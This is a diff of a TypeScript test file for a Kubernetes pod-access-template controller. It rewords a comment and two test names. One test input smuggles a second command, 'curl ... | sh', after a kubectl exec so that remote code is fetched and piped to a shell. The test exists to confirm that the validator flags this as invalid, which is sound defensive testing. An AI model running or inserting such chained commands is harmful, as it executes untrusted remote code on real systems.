@@ -10,7 +10,7 @@ describe('the conditions of a template', () => {
     const stage = new LifecycleStage();
     const manifest = podTemplateManifest();
     const { accessConfig } = manifest.spec as { accessConfig: object };
-    // As one that was stored before such commands were refused.
+    // Skips the webhook, like a template from before the webhook denied such commands.
     const spec = { ...(manifest.spec as object), accessConfig: { ...accessConfig, accessCommand } };
     stage.cluster.put(podAccessTemplates, { ...manifest, spec } as KubeObject);
     await stage.start();
@@ -22,14 +22,14 @@ describe('the conditions of a template', () => {
   const condition = ({ conditions = [] }: TemplateStatus, type: string) =>
     conditions.filter((one) => one.type === type).map(({ status, reason }) => [status, reason])[0];
 
-  it('report an invalid access command until someone changes it', async () => {
+  it('report an invalid access command until it is changed', async () => {
     const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh');
     assert.deepEqual(condition(status, 'AccessCommandValid'), ['False', 'InvalidAccessCommand']);
     assert.deepEqual(condition(status, 'Stalled'), ['True', 'InvalidAccessCommand']);
     assert.equal(status.ready, false);
   });
 
-  it('say that one which leads to the pod is valid', async () => {
+  it('report a valid access command', async () => {
     const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh');
     assert.deepEqual(condition(status, 'AccessCommandValid'), ['True', 'Success']);
     assert.equal(status.ready, true);
